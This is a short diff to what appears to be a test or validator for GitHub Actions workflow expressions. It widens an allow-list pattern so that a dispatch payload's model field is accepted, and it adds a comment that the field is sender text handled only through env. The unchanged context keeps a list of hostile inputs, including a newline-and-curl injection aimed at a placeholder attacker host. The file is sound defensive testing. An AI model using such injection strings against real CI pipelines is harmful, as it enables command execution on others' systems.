@@ -28,8 +28,10 @@ HOSTILE = [
     "a\nb; curl evil.example",
     "'; exit 0; '",
 ]
+# The deploy's model (`github.event.client_payload.model`) is sender text like an input: env only
+# (test_github_act_model holds that, and the step refusing anything but a storage URI).
 EXPRESSION_OK = re.compile(r"secrets\.[A-Za-z_][A-Za-z0-9_]*|inputs\.[a-z_][a-z0-9_]*|vars\.PROMETHEUS_URL|"
-                           r"github\.(event_name|run_id|sha|ref)|'\$\{\{'")
+                           r"github\.(event_name|run_id|sha|ref|event\.client_payload\.model)|'\$\{\{'")
 # A job's `if:`: comparisons of the event name or a dispatch's environment with plain literals, only.
 CLAUSE_OK = re.compile(r"github\.(event_name|event\.client_payload\.environment) [=!]= '[A-Za-z0-9_.-]+'")
 
